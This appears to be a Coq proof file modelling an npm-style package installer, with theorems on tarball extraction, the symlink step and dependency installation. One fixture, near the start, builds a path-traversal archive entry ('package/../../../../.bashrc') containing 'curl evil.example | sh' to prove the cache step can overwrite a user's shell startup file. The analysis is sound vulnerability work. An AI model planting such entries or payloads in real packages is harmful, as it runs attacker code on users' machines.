(** An archive whose one entry climbs out of the cache entry, served for
    [leftpad@1.0.0]. *)
Definition climbing_entry : TarEntry :=
  mkTarEntry "package/../../../../.bashrc" false 420 "curl evil.example | sh".
Definition climbing_registry : Env :=
  mkEnv (serve [(leftpad_url, tgz_body (mkTarStream [climbing_entry] None))])
        no_faults (Ok "/home/u/.cache") no_stat_errors.

(** A disk on which the user's [.bashrc] exists. *)
Definition home_world : World :=
  set_fs (fun _ => {[ "/home" := Dir 493; "/home/u" := Dir 493;
                      "/home/u/.bashrc" := File "export PATH" ]}) empty_world.

(** C6: an entry name that starts with ["package/"] and goes on with
    [".."] elements gives an extraction target outside the cache path:
    the target is neither the cache path nor below it, and the cache step
    creates the file there, or overwrites the one that is there. *)
Theorem extraction_target_escapes :
  exists (en : TarEntry) (dest target : string),
    strings.HasPrefix (hdr_Name en) "package/" = true
    /\ In ".." (filepath.elements (strings.TrimPrefix (hdr_Name en) "package/"))
    /\ target = target_of dest (hdr_Name en)
    /\ target <> dest
    /\ strings.HasPrefix target (dest +:+ "/") = false
    /\ (exists w',
          ensureCached climbing_registry "leftpad@1.0.0" leftpad_url dest empty_world
          = Some (Ok tt, w')
          /\ fs empty_world !! target = None
          /\ fs w' !! target = Some (File (Data en))
          /\ fs w' !! dest = None)
    /\ (exists w',
          ensureCached climbing_registry "leftpad@1.0.0" leftpad_url dest home_world
          = Some (Ok tt, w')
          /\ fs home_world !! target = Some (File "export PATH")
          /\ fs w' !! target = Some (File (Data en))).
Proof.
  exists climbing_entry, leftpad_cache, "/home/u/.bashrc".
  split; [reflexivity|]. split; [vm_compute; tauto|]. split; [reflexivity|].
  split; [discriminate|]. split; [reflexivity|]. split.
  - eexists. split; [vm_compute; reflexivity|]. by vm_compute.
  - eexists. split; [vm_compute; reflexivity|]. by vm_compute.
Qed.

(** ** The link step *)

Section link_step.
Context {SV : Semver} (env : Env).

(** What follows the removal in the link step. *)
Definition link_create (name cachePath : string) : M (result unit) :=
  let linkPath := linkPath_of name in
  let* r := os_MkdirAll env (filepath.Dir linkPath) 493 in
  match r with
  | Err e => ret (Err (LinkError_mkdir linkPath e))
  | Ok _ =>
      let* r := os_Symlink env cachePath linkPath in
      match r with
      | Err e => ret (Err (LinkError_symlink cachePath linkPath e))
      | Ok _ => ret (Ok tt)
      end
  end.

(** The removal comes first and its error is dropped. *)
Lemma link_RemoveAll_first name cachePath w :
  exists r0 w1,
    os_RemoveAll env (linkPath_of name) w = Some (r0, w1)
    /\ link env name cachePath w = link_create name cachePath w1.
Proof.
  destruct (returns_fs_call env
              (fun files =>
                 if String.eqb (linkPath_of name) "" then Ok files
                 else if String.eqb (linkPath_of name) "." then Err EINVAL
                 else Ok (filter (fun kv => negb (String.eqb kv.1 (linkPath_of name)
                                     || strings.HasPrefix kv.1 (linkPath_of name +:+ "/")) = true)
                            files)) w) as [[r0 w1] Hrm].
  exists r0, w1. split; [exact Hrm|].
  unfold link, bind at 1. unfold os_RemoveAll. by rewrite Hrm.
Qed.

(** A removal that does not fail leaves nothing at the path. *)
Lemma RemoveAll_removes path w w1 :
  path <> "" -> path <> "." ->
  os_RemoveAll env path w = Some (Ok tt, w1) ->
  fs w1 !! path = None.
Proof.
  intros Hne Hdot. unfold os_RemoveAll, fs_call.
  destruct (env_fault env (fs_calls w)); [done|].
  apply string_eqb_empty in Hne as ->.
  destruct (String.eqb_spec path ".") as [|_]; [done|].
  intros [= <-]. cbn. apply map_lookup_filter_None. right.
  intros n _. cbn. by rewrite String.eqb_refl.
Qed.

(** A link call that succeeds puts the link at the path. *)
Lemma Symlink_creates oldname newname w w' :
  os_Symlink env oldname newname w = Some (Ok tt, w') ->
  node (fs w) newname = None /\ fs w' !! newname = Some (Symlink oldname).
Proof.
  unfold os_Symlink, fs_call.
  destruct (env_fault env (fs_calls w)); [done|].
  destruct (node (fs w) newname); [done|].
  destruct (is_dir (fs w) (filepath.Dir newname)); [|done].
  intros [= <-]. cbn. split; [done|]. apply lookup_insert_eq.
Qed.

Lemma link_create_result name cachePath w1 :
  exists r w',
    link_create name cachePath w1 = Some (r, w')
    /\ match r with
       | Ok _ => fs w' !! linkPath_of name = Some (Symlink cachePath)
       | Err e =>
           (exists e0, e = LinkError_mkdir (linkPath_of name) e0)
           \/ (exists e0, e = LinkError_symlink cachePath (linkPath_of name) e0)
       end.
Proof.
  unfold link_create, bind.
  destruct (returns_fs_call env
              (mkdir_each (ancestors (filepath.Dir (linkPath_of name))) 493) w1)
    as [[r1 w2] Hmk].
  unfold os_MkdirAll. rewrite Hmk. destruct r1 as [[]|e1].
  - destruct (os_Symlink env cachePath (linkPath_of name) w2) as [[r2 w3]|] eqn:Hsym.
    + destruct r2 as [[]|e2]; eexists _, _; (split; [reflexivity|]).
      * by apply Symlink_creates in Hsym as [_ ?].
      * right. by eexists.
    + exfalso. unfold os_Symlink in Hsym.
      by destruct (returns_fs_call env
                     (fun files =>
                        match node files (linkPath_of name) with
                        | Some _ => Err EEXIST
                        | None =>
                            if is_dir files (filepath.Dir (linkPath_of name))
                            then Ok (<[linkPath_of name := Symlink cachePath]> files)
                            else Err ENOENT
                        end) w2) as [? Heq]; rewrite Heq in Hsym.
  - eexists _, _. split; [reflexivity|]. left. by eexists.
Qed.

End link_step.

Lemma Clean_nonempty path : filepath.Clean path <> "".
Proof.
  unfold filepath.Clean. destruct (String.eqb path ""); [done|].
  destruct (strings.HasPrefix path "/"); [done|].
  destruct (String.eqb_spec
              (strings.Join (filepath.clean_go false (filepath.elements path) []) "/") "");
    done.
Qed.

Lemma linkPath_of_nonempty name : linkPath_of name <> "".
Proof. unfold linkPath_of. cbn [filepath.Join String.eqb]. apply Clean_nonempty. Qed.

(** ** When the link step succeeds, and when it fails *)

(** [os.MkdirAll] touches the paths it goes through only. *)
Lemma mkdir_each_other paths perm files files' p :
  mkdir_each paths perm files = Ok files' -> ~ In p paths -> files' !! p = files !! p.
Proof.
  revert files. induction paths as [|q paths IH]; intros files; cbn [mkdir_each].
  - by intros [= <-].
  - intros Hmk Hnot. destruct (node files q) as [[| |]|] eqn:Hq; try done.
    + apply IH; [done|]. intros Hin. apply Hnot. by right.
    + rewrite (IH _ Hmk) by (intros Hin; apply Hnot; by right).
      apply lookup_insert_ne. intros ->. apply Hnot. by left.
Qed.

(** It fails where something that is no directory is on the way. *)
Lemma mkdir_each_blocked paths perm files k :
  In k paths -> is_Some (node files k) -> is_dir files k = false ->
  mkdir_each paths perm files = Err ENOTDIR.
Proof.
  revert files. induction paths as [|q paths IH]; intros files; [done|].
  intros Hin Hsome Hnodir. cbn [mkdir_each].
  destruct (node files q) as [[| |]|] eqn:Hq; try done.
  - apply IH; try done. destruct Hin as [->|Hin]; [|done].
    unfold is_dir in Hnodir. by rewrite Hq in Hnodir.
  - destruct Hin as [->|Hin]; [rewrite Hq in Hsome; by destruct Hsome|].
    assert (q <> k) as Hne by (intros ->; rewrite Hq in Hsome; by destruct Hsome).
    assert (node (<[q := Dir perm]> files) k = node files k) as Hsame.
    { unfold node. destruct (is_dots k); [done|]. by rewrite lookup_insert_ne. }
    apply IH; [done|by rewrite Hsame|]. unfold is_dir in *. by rewrite Hsame.
Qed.

Lemma HasPrefix_longer s c t : strings.HasPrefix s (s +:+ String c t) = false.
Proof.
  induction s as [|a s IH]; [by rewrite append_nil|].
  rewrite append_cons. cbn [strings.HasPrefix]. by rewrite IH, andb_false_r.
Qed.

(** A path is at [path] or below it. *)
Definition within (path p : string) : bool :=
  String.eqb p path || strings.HasPrefix p (path +:+ "/").

(** A path that names an entry of its directory: it is none of the paths
    that always name a directory; its directory is one of those, or is the
    last of the directories that [os.MkdirAll] goes through for it; and none
    of these directories is the path itself or lies below it. *)
Definition placed (path : string) : bool :=
  negb (is_dots path)
  && (is_dots (filepath.Dir path)
      || existsb (String.eqb (filepath.Dir path)) (ancestors (filepath.Dir path)))
  && forallb (fun k => negb (within path k)) (ancestors (filepath.Dir path)).

Lemma placed_spec path :
  placed path = true ->
  is_dots path = false
  /\ path <> "."
  /\ (is_dots (filepath.Dir path) = true
      \/ In (filepath.Dir path) (ancestors (filepath.Dir path)))
  /\ forall k, In k (ancestors (filepath.Dir path)) -> within path k = false.
Proof.
  unfold placed. intros [[Hdots Hdir]%andb_prop Hout]%andb_prop.
  apply negb_true_iff in Hdots. split; [done|]. split; [|split].
  - intros ->. done.
  - apply orb_prop in Hdir as [Hdir|Hdir]; [by left|right].
    apply existsb_exists in Hdir as (k & Hin & Heq).
    apply String.eqb_eq in Heq. by subst k.
  - intros k Hk. rewrite forallb_forall in Hout. apply negb_true_iff. by apply Hout.
Qed.

Section link_outcome.
Context (env : Env).

(** Every mutating call counts, whatever comes of it. *)
Lemma fs_call_counts op w r w' :
  fs_call env op w = Some (r, w') -> fs_calls w' = S (fs_calls w).
Proof.
  unfold fs_call. destruct (env_fault env (fs_calls w)); [by intros [= _ <-]|].
  destruct (op (fs w)); by intros [= _ <-].
Qed.

Lemma fs_call_fault op w f :
  env_fault env (fs_calls w) = Some f ->
  fs_call env op w = Some (Err (fault_err f), tick w).
Proof. unfold fs_call. by intros ->. Qed.

(** A removal that nothing hinders leaves nothing at the path or below it,
    and everything else as it was. *)
Lemma RemoveAll_Ok path w :
  env_fault env (fs_calls w) = None -> path <> "" -> path <> "." ->
  exists w1,
    os_RemoveAll env path w = Some (Ok tt, w1)
    /\ fs_calls w1 = S (fs_calls w)
    /\ (forall p, within path p = true -> fs w1 !! p = None)
    /\ (forall p, within path p = false -> fs w1 !! p = fs w !! p).
Proof.
  intros Hfault Hne Hdot. unfold os_RemoveAll, fs_call. rewrite Hfault.
  apply string_eqb_empty in Hne as ->.
  destruct (String.eqb_spec path ".") as [|_]; [done|].
  eexists. split; [reflexivity|]. cbn [fs fs_calls tick set_fs]. split; [done|].
  split; intros p Hp.
  - apply map_lookup_filter_None. right. intros n _. cbn. unfold within in Hp.
    by rewrite Hp.
  - destruct (fs w !! p) as [n|] eqn:Hn.
    + apply map_lookup_filter_Some. split; [done|]. cbn. unfold within in Hp.
      by rewrite Hp.
    + apply map_lookup_filter_None. by left.
Qed.

(** The link step up to the link call, where nothing hinders the removal
    and the way to the parent directory holds directories only. *)
Lemma link_parent_made name w :
  placed (linkPath_of name) = true ->
  (forall k, In k (ancestors (filepath.Dir (linkPath_of name))) ->
             node (fs w) k = None \/ is_dir (fs w) k = true) ->
  env_fault env (fs_calls w) = None ->
  env_fault env (S (fs_calls w)) = None ->
  exists w1 w2,
    os_RemoveAll env (linkPath_of name) w = Some (Ok tt, w1)
    /\ os_MkdirAll env (filepath.Dir (linkPath_of name)) 493 w1 = Some (Ok tt, w2)
    /\ fs_calls w2 = S (S (fs_calls w))
    /\ node (fs w2) (linkPath_of name) = None
    /\ is_dir (fs w2) (filepath.Dir (linkPath_of name)) = true
    /\ (forall k, In k (ancestors (filepath.Dir (linkPath_of name))) ->
                  is_dir (fs w2) k = true)
    /\ (forall p, within (linkPath_of name) p = true -> fs w2 !! p = None)
    /\ (forall p, is_Some (fs w1 !! p) -> is_Some (fs w2 !! p)).
Proof.
  intros (Hdots & Hdot & Hparent & Hout)%placed_spec Hway Hf0 Hf1.
  destruct (RemoveAll_Ok (linkPath_of name) w Hf0 (linkPath_of_nonempty name) Hdot)
    as (w1 & Hrm & Hcalls1 & Hgone & Hkept).
  assert (forall k, In k (ancestors (filepath.Dir (linkPath_of name))) ->
                    node (fs w1) k = node (fs w) k) as Hnode1.
  { intros k Hk. unfold node. destruct (is_dots k); [done|]. apply Hkept. by apply Hout. }
  destruct (mkdir_each_succeeds (ancestors (filepath.Dir (linkPath_of name))) 493 (fs w1))
    as [files' Hmk].
  { intros k Hk. unfold is_dir. rewrite (Hnode1 k Hk). by apply Hway. }
  assert (forall p, within (linkPath_of name) p = true -> files' !! p = None) as Hgone'.
  { intros p Hp. rewrite (mkdir_each_other _ _ _ _ p Hmk); [by apply Hgone|].
    intros Hin. apply Hout in Hin. congruence. }
  assert (node files' (linkPath_of name) = None) as Hfree.
  { unfold node. rewrite Hdots. apply Hgone'. unfold within. by rewrite String.eqb_refl. }
  exists w1, (tick (set_fs (fun _ => files') w1)). split; [done|]. split.
  { unfold os_MkdirAll, fs_call. by rewrite Hcalls1, Hf1, Hmk. }
  cbn [fs fs_calls tick set_fs]. split; [by rewrite Hcalls1|]. split; [done|]. split.
  { destruct Hparent as [Hd|Hin]; [|by eapply mkdir_each_dirs].
    unfold is_dir, node. by rewrite Hd. }
  split; [intros k Hk; by eapply mkdir_each_dirs|]. split; [done|].
  intros p. by eapply mkdir_each_keeps.
Qed.

End link_outcome.

(** C7: the link step.  It calls [os.RemoveAll], [os.MkdirAll] and
    [os.Symlink] in this order, on the install location of the name, on its
    parent directory and on the install location again.  The removal's
    result is dropped: a removal that fails leaves the files as they were
    and the step goes on.  A failing [os.MkdirAll] ends the step with the
    "create parent dir" error and a failing [os.Symlink] with the "symlink"
    error, each wrapping the error of the call.  After a successful
    [os.MkdirAll] every directory on the way to the parent is there, and
    when the step returns success the install location holds the link to
    the cache path just given, in a parent that is a directory.

    When it succeeds: where the install location is an entry of its parent
    and the way to the parent holds nothing but directories (no file, and
    no link: the calls are followed by literal path), the outcome is that of
    the three calls.  If none of them is hindered the step returns success:
    whatever the install location held before (an earlier link of the same
    name, to another version) is gone with everything below it, the link to
    the new cache path is there, and the entries elsewhere are still there.
    If the surroundings make [os.MkdirAll] or [os.Symlink] fail, the step
    returns the corresponding error with no link at the install location.
    And where a file is on the way to the parent, the step fails with the
    "create parent dir" error. *)
Theorem link_replaces (env : Env) (name cachePath : string) (w : World) :
  (exists r0 w1 r1 w2,
     os_RemoveAll env (linkPath_of name) w = Some (r0, w1)
     /\ (r0 = Ok tt -> linkPath_of name <> "." -> fs w1 !! linkPath_of name = None)
     /\ (r0 <> Ok tt -> fs w1 = fs w)
     /\ os_MkdirAll env (filepath.Dir (linkPath_of name)) 493 w1 = Some (r1, w2)
     /\ match r1 with
        | Err e =>
            link env name cachePath w
            = Some (Err (LinkError_mkdir (linkPath_of name) e), w2)
        | Ok _ =>
            (forall k, In k (ancestors (filepath.Dir (linkPath_of name))) ->
                       is_dir (fs w2) k = true)
            /\ exists r2 w3,
                 os_Symlink env cachePath (linkPath_of name) w2 = Some (r2, w3)
                 /\ match r2 with
                    | Err e =>
                        link env name cachePath w
                        = Some (Err (LinkError_symlink cachePath (linkPath_of name) e), w3)
                    | Ok _ =>
                        link env name cachePath w = Some (Ok tt, w3)
                        /\ fs w3 !! linkPath_of name = Some (Symlink cachePath)
                        /\ is_dir (fs w3) (filepath.Dir (linkPath_of name)) = true
                    end
        end)
  /\ (placed (linkPath_of name) = true ->
      (forall k, In k (ancestors (filepath.Dir (linkPath_of name))) ->
                 node (fs w) k = None \/ is_dir (fs w) k = true) ->
      env_fault env (fs_calls w) = None ->
      match env_fault env (S (fs_calls w)), env_fault env (S (S (fs_calls w))) with
      | Some f, _ =>
          exists w',
            link env name cachePath w
            = Some (Err (LinkError_mkdir (linkPath_of name) (fault_err f)), w')
            /\ fs w' !! linkPath_of name = None
      | None, Some f =>
          exists w',
            link env name cachePath w
            = Some (Err (LinkError_symlink cachePath (linkPath_of name) (fault_err f)), w')
            /\ fs w' !! linkPath_of name = None
      | None, None =>
          exists w',
            link env name cachePath w = Some (Ok tt, w')
            /\ fs w' !! linkPath_of name = Some (Symlink cachePath)
            /\ is_dir (fs w') (filepath.Dir (linkPath_of name)) = true
            /\ (forall k, In k (ancestors (filepath.Dir (linkPath_of name))) ->
                          is_dir (fs w') k = true)
            /\ (forall p, strings.HasPrefix p (linkPath_of name +:+ "/") = true ->
                          fs w' !! p = None)
            /\ (forall p, within (linkPath_of name) p = false ->
                          is_Some (fs w !! p) -> is_Some (fs w' !! p))
      end)
  /\ (placed (linkPath_of name) = true ->
      env_fault env (fs_calls w) = None ->
      env_fault env (S (fs_calls w)) = None ->
      (exists k data,
         In k (ancestors (filepath.Dir (linkPath_of name)))
         /\ node (fs w) k = Some (File data)) ->
      exists w',
        link env name cachePath w
        = Some (Err (LinkError_mkdir (linkPath_of name) ENOTDIR), w')).
Proof.
  split; [|split].
  - destruct (link_RemoveAll_first env name cachePath w) as (r0 & w1 & Hrm & Hlink).
    destruct (returns_fs_call env
                (mkdir_each (ancestors (filepath.Dir (linkPath_of name))) 493) w1)
      as [[r1 w2] Hmk].
    exists r0, w1, r1, w2. split; [done|]. split.
    { intros -> Hdot. eapply RemoveAll_removes; [apply linkPath_of_nonempty|done|done]. }
    split.
    { destruct r0 as [[]|e0]; [done|]. intros _. by eapply fs_call_Err. }
    split; [done|]. rewrite Hlink. unfold link_create, bind.
    change (os_MkdirAll env (filepath.Dir (linkPath_of name)) 493 w1)
      with (fs_call env (mkdir_each (ancestors (filepath.Dir (linkPath_of name))) 493) w1).
    rewrite Hmk. destruct r1 as [[]|e1]; [|done]. split.
    { apply fs_call_Ok in Hmk as (_ & files & Hop & ->). intros k Hk.
      by eapply mkdir_each_dirs. }
    destruct (os_Symlink env cachePath (linkPath_of name) w2) as [[r2 w3]|] eqn:Hsym.
    + exists r2, w3. split; [done|]. destruct r2 as [[]|e2]; [|done].
      split; [done|]. pose proof Hsym as [Hfree Hlinked]%Symlink_creates.
      split; [done|].
      apply fs_call_Ok in Hsym as (_ & files & Hop & ->). cbn [fs tick set_fs].
      rewrite Hfree in Hop.
      destruct (is_dir (fs w2) (filepath.Dir (linkPath_of name))) eqn:Hdir; [|done].
      injection Hop as <-. apply is_dir_insert; [done|]. unfold is_dir. by rewrite Hfree.
    + exfalso. unfold os_Symlink in Hsym.
      by destruct (returns_fs_call env
                     (fun files =>
                        match node files (linkPath_of name) with
                        | Some _ => Err EEXIST
                        | None =>
                            if is_dir files (filepath.Dir (linkPath_of name))
                            then Ok (<[linkPath_of name := Symlink cachePath]> files)
                            else Err ENOENT
                        end) w2) as [? Heq]; rewrite Heq in Hsym.
  - intros Hplaced Hway Hf0.
    destruct (env_fault env (S (fs_calls w))) as [f1|] eqn:Hf1.
    + pose proof Hplaced as (Hdots & Hdot & _ & _)%placed_spec.
      destruct (RemoveAll_Ok env (linkPath_of name) w Hf0 (linkPath_of_nonempty name) Hdot)
        as (w1 & Hrm & Hcalls1 & Hgone & _).
      exists (tick w1). split.
      * unfold link, bind. rewrite Hrm. unfold os_MkdirAll.
        rewrite (fs_call_fault env _ w1 f1) by by rewrite Hcalls1. done.
      * cbn [fs tick]. apply Hgone. unfold within. by rewrite String.eqb_refl.
    + destruct (link_parent_made env name w Hplaced Hway Hf0 Hf1)
        as (w1 & w2 & Hrm & Hmk & Hcalls2 & Hfree & Hdir & Hdirs & Hgone & Hkept).
      pose proof Hplaced as (Hdots & Hdot & _ & _)%placed_spec.
      destruct (RemoveAll_Ok env (linkPath_of name) w Hf0 (linkPath_of_nonempty name) Hdot)
        as (w1' & Hrm' & _ & _ & Hkept1).
      rewrite Hrm in Hrm'. injection Hrm' as <-.
      destruct (env_fault env (S (S (fs_calls w)))) as [f2|] eqn:Hf2.
      * exists (tick w2). split.
        -- unfold link, bind. rewrite Hrm, Hmk. unfold os_Symlink.
           rewrite (fs_call_fault env _ w2 f2) by by rewrite Hcalls2. done.
        -- cbn [fs tick]. apply Hgone. unfold within. by rewrite String.eqb_refl.
      * exists (tick (set_fs (fun _ => <[linkPath_of name := Symlink cachePath]> (fs w2)) w2)).
        split.
        { unfold link, bind. rewrite Hrm, Hmk. unfold os_Symlink, fs_call.
          by rewrite Hcalls2, Hf2, Hfree, Hdir. }
        cbn [fs tick set_fs]. split; [apply lookup_insert_eq|].
        assert (is_dir (fs w2) (linkPath_of name) = false) as Hnodir
            by (unfold is_dir; by rewrite Hfree).
        split; [by apply is_dir_insert|].
        split; [intros k Hk; apply is_dir_insert; [by apply Hdirs|done]|]. split.
        -- intros p Hp. rewrite lookup_insert_ne.
           ++ apply Hgone. unfold within. by rewrite Hp, orb_true_r.
           ++ intros <-. by rewrite HasPrefix_longer in Hp.
        -- intros p Hp Hsome. apply is_Some_insert, Hkept. by rewrite Hkept1.
  - intros Hplaced Hf0 Hf1 (k & data & Hk & Hfile).
    pose proof Hplaced as (Hdots & Hdot & _ & Hout)%placed_spec.
    destruct (RemoveAll_Ok env (linkPath_of name) w Hf0 (linkPath_of_nonempty name) Hdot)
      as (w1 & Hrm & Hcalls1 & _ & Hkept).
    assert (node (fs w1) k = Some (File data)) as Hfile1.
    { rewrite <- Hfile. unfold node. destruct (is_dots k); [done|]. apply Hkept.
      by apply Hout. }
    exists (tick w1). unfold link, bind. rewrite Hrm. unfold os_MkdirAll, fs_call.
    rewrite Hcalls1, Hf1.
    rewrite (mkdir_each_blocked _ 493 (fs w1) k Hk); [done|by rewrite Hfile1|].
    unfold is_dir. by rewrite Hfile1.
Qed.

(** A disk on which [leftpad] is linked to version 1.0.0. *)
Definition linked_world : World :=
  mkWorld ∅ {[ "node_modules" := Dir 493;
               "node_modules/leftpad" := Symlink leftpad_cache ]} [] [] 3.

(** A disk on which a file sits where the install root would be. *)
Definition rootless_world : World :=
  mkWorld ∅ {[ "node_modules" := File "not a directory" ]} [] [] 0.

(** On an empty disk, linking [leftpad] to version 1.0.0 makes the install
    root and the link; linking it to version 2.0.0 afterwards leaves the
    one link, to version 2.0.0.  With a file where the install root would
    be, the step fails. *)
Lemma link_replaces_witness :
  (exists w1 w2,
     link (leftpad_registry no_faults) "leftpad" leftpad_cache empty_world = Some (Ok tt, w1)
     /\ fs empty_world !! "node_modules" = None
     /\ fs w1 = fs linked_world
     /\ link (leftpad_registry no_faults) "leftpad" "/home/u/.cache/npm-go/leftpad/2.0.0" w1
        = Some (Ok tt, w2)
     /\ fs w2 !! "node_modules/leftpad"
        = Some (Symlink "/home/u/.cache/npm-go/leftpad/2.0.0")
     /\ is_dir (fs w2) "node_modules" = true)
  /\ exists w',
       link (leftpad_registry no_faults) "leftpad" leftpad_cache rootless_world
       = Some (Err (LinkError_mkdir "node_modules/leftpad" ENOTDIR), w').
Proof.
  split.
  - destruct (proj1 (proj2 (link_replaces (leftpad_registry no_faults) "leftpad"
                              leftpad_cache empty_world)))
      as (w1 & Hrun1 & _); [reflexivity| |reflexivity|].
    { intros k Hk. left. vm_compute in Hk. by destruct Hk as [<-|[]]. }
    pose proof Hrun1 as Hval. vm_compute in Hval. injection Hval as <-.
    destruct (proj1 (proj2 (link_replaces (leftpad_registry no_faults) "leftpad"
                              "/home/u/.cache/npm-go/leftpad/2.0.0"
                              (mkWorld ∅ (fs linked_world) [] [] 3))))
      as (w2 & Hrun2 & Hlink2 & Hdir2 & _); [reflexivity| |reflexivity|].
    { intros k Hk. right. vm_compute in Hk. by destruct Hk as [<-|[]]. }
    eexists _, w2. split; [exact Hrun1|]. split; [reflexivity|].
    split; [vm_compute; reflexivity|]. split; [exact Hrun2|].
    split; [exact Hlink2|exact Hdir2].
  - destruct (proj2 (proj2 (link_replaces (leftpad_registry no_faults) "leftpad"
                              leftpad_cache rootless_world)))
      as [w' Hrun]; [reflexivity|reflexivity|reflexivity| |by exists w'].
    exists "node_modules", "not a directory". split; [|reflexivity].
    vm_compute. by left.
Defined.

(** ** The dependencies of a package *)

Section dependencies.
Context {SV : Semver} (env : Env).

(** The dependencies are installed one after the other, each with
    success. *)
Inductive deps_run (install : PackageInfo -> M (result unit))
  : list (string * string) -> World -> World -> Prop :=
  | deps_run_nil w : deps_run install [] w w
  | deps_run_cons dep depVer rest w w1 w' :
      install (mkPackageInfo dep depVer) w = Some (Ok tt, w1) ->
      deps_run install rest w1 w' ->
      deps_run install ((dep, depVer) :: rest) w w'.

Lemma installDeps_Ok install ds w w' :
  installDeps install ds w = Some (Ok tt, w') <-> deps_run install ds w w'.
Proof.
  split.
  - revert w. induction ds as [|[dep depVer] ds IH]; intros w; cbn [installDeps].
    + intros [= <-]. constructor.
    + unfold bind.
      destruct (install (mkPackageInfo dep depVer) w) as [[[[]|e] w1]|] eqn:Hdep;
        try done.
      intros Hrest. econstructor; [exact Hdep|]. by apply IH.
  - induction 1 as [w|dep depVer rest w w1 w' Hdep _ IH]; cbn [installDeps]; [done|].
    unfold bind. by rewrite Hdep.
Qed.

(** The first dependency that fails ends the loop with its error, wrapped
    with its name and selector; the dependencies after it play no part. *)
Lemma installDeps_first_failure install before dep depVer rest w w1 e w2 :
  deps_run install before w w1 ->
  install (mkPackageInfo dep depVer) w1 = Some (Err e, w2) ->
  installDeps install (before ++ (dep, depVer) :: rest) w
  = Some (Err (Wrap ("install dep " +:+ dep +:+ "@" +:+ depVer) e), w2).
Proof.
  induction 1 as [w|dep0 depVer0 rest0 w w0 w1 Hdep0 _ IH]; intros Hfail;
    cbn [installDeps app]; unfold bind.
  - by rewrite Hfail.
  - rewrite Hdep0. by apply IH.
Qed.

(** The world in which the dependencies of [pkg] are installed: [pkg] is
    marked and announced, resolved, cached, linked and reported. *)
Definition linked (pkg : PackageInfo) (res : Resolution) (w w4 : World) : Prop :=
  exists cachePath w2 w3 w3',
    resolvePackage env pkg
      (set_stdout (fun out => out ++ ["Resolving " +:+ Name pkg +:+ "@" +:+ Version pkg +:+ "..."])
         (set_installed (fun m => <[memo_key pkg := true]> m) w))
    = Some (Ok res, w2)
    /\ getCachePath env (mkPackageInfo (Name pkg) (resolved res)) = Ok cachePath
    /\ ensureCached env (memo_key pkg) (tarball res) cachePath w2 = Some (Ok tt, w3)
    /\ link env (Name pkg) cachePath w3 = Some (Ok tt, w3')
    /\ w4 = set_stdout (fun out => out ++ ["Linked " +:+ Name pkg +:+ "@" +:+ resolved res]) w3'.

Lemma Install_then_deps fuel pkg res w w4 :
  ~ marked w (memo_key pkg) ->
  linked pkg res w w4 ->
  Install env (S fuel) pkg w = installDeps (Install env fuel) (deps res) w4.
Proof.
  intros Hm (cachePath & w2 & w3 & w3' & Hres & Hpath & Hcache & Hlink & ->).
  rewrite Install_unmarked by done.
  unfold Install_work, bind at 1. unfold Println at 1.
  unfold bind at 1. rewrite Hres, Hpath.
  unfold bind at 1. rewrite Hcache.
  unfold bind at 1. rewrite Hlink.
  unfold bind at 1. unfold Println at 1. done.
Qed.

End dependencies.

(** C8: once a package is resolved, cached and linked, [Install] goes
    through its dependencies in order and calls itself for each: it returns
    success exactly when every call did, one after the other; and the first
    call that fails makes it return that error, wrapped with the
    dependency's name and selector, in the world that call left, the
    dependencies after it not being installed. *)
Theorem Install_dependencies {SV : Semver} (env : Env) (fuel : nat)
    (pkg : PackageInfo) (res : Resolution) (w w4 : World) :
  ~ marked w (memo_key pkg) ->
  linked env pkg res w w4 ->
  (forall w', Install env (S fuel) pkg w = Some (Ok tt, w') <->
              deps_run (Install env fuel) (deps res) w4 w')
  /\ (forall before dep depVer rest w5 e w6,
        deps res = before ++ (dep, depVer) :: rest ->
        deps_run (Install env fuel) before w4 w5 ->
        Install env fuel (mkPackageInfo dep depVer) w5 = Some (Err e, w6) ->
        Install env (S fuel) pkg w
        = Some (Err (Wrap ("install dep " +:+ dep +:+ "@" +:+ depVer) e), w6)).
Proof.
  intros Hm Hlinked.
  pose proof (Install_then_deps env fuel pkg res w w4 Hm Hlinked) as Hinstall.
  split.
  - intros w'. rewrite Hinstall. apply installDeps_Ok.
  - intros before dep depVer rest w5 e w6 Hdeps Hbefore Hfail.
    rewrite Hinstall, Hdeps. by apply installDeps_first_failure with w5.
Qed.

(** A registry that knows [a@1.0.0], which depends on [b] and [c], and
    knows neither [b] nor [c]. *)
Definition a_url : string := "https://registry.npmjs.org/a/-/a-1.0.0.tgz".
Definition a_meta : PackageMeta :=
  mkPackageMeta ∅ [("1.0.0", mkVersionInfo a_url [("b", "1.0.0"); ("c", "1.0.0")])].
Definition a_registry : Env :=
  mkEnv (serve [("https://registry.npmjs.org/a", json_body a_meta);
                (a_url, tgz_body (mkTarStream [mkTarEntry "package/index.js" false 420 "a"] None))])
        no_faults (Ok "/home/u/.cache") no_stat_errors.

(** Installing [a@1.0.0] there: [a] is linked, the install of [b] fails in
    the resolver, and [c] is never tried. *)
Lemma Install_dependencies_witness :
  exists w6,
    Install a_registry 2 (mkPackageInfo "a" "1.0.0") empty_world
    = Some (Err (Wrap "install dep b@1.0.0"
                   (Wrap "resolve b@1.0.0" (UnexpectedStatus 404))), w6)
    /\ fs w6 !! "node_modules/a" = Some (Symlink "/home/u/.cache/npm-go/a/1.0.0")
    /\ installed w6 !! "b@1.0.0" = Some true
    /\ installed w6 !! "c@1.0.0" = None.
Proof.
  assert (~ marked empty_world (memo_key (mkPackageInfo "a" "1.0.0"))) as Hm
    by (vm_compute; discriminate).
  eassert (linked a_registry (mkPackageInfo "a" "1.0.0") _ empty_world _) as Hl.
  { eexists _, _, _, _. split; [vm_compute; reflexivity|].
    split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
    split; [vm_compute; reflexivity|]. reflexivity. }
  eexists. split.
  { eapply (proj2 (Install_dependencies a_registry 1 _ _ _ _ Hm Hl)
              [] "b" "1.0.0" [("c", "1.0.0")]);
      [reflexivity|constructor|vm_compute; reflexivity]. }
  split; [vm_compute; reflexivity|]. split; vm_compute; reflexivity.
Defined.

(** ** The command line *)

Section command_line.
Context {SV : Semver} (env : Env).

Lemma preserves_main_arg fuel arg : preserves (main_arg env fuel arg).
Proof.
  unfold main_arg. destruct (Parse arg) as [[pkg|e]|].
  - apply preserves_bind; [apply preserves_Install|].
    intros [[]|e]; [apply preserves_ret|apply preserves_Println].
  - apply preserves_Println.
  - apply preserves_diverge.
Qed.

Lemma preserves_main_loop fuel args : preserves (main_loop env fuel args).
Proof.
  induction args as [|arg args IH]; cbn [main_loop]; [apply preserves_ret|].
  apply preserves_bind; [apply preserves_main_arg|done].
Qed.

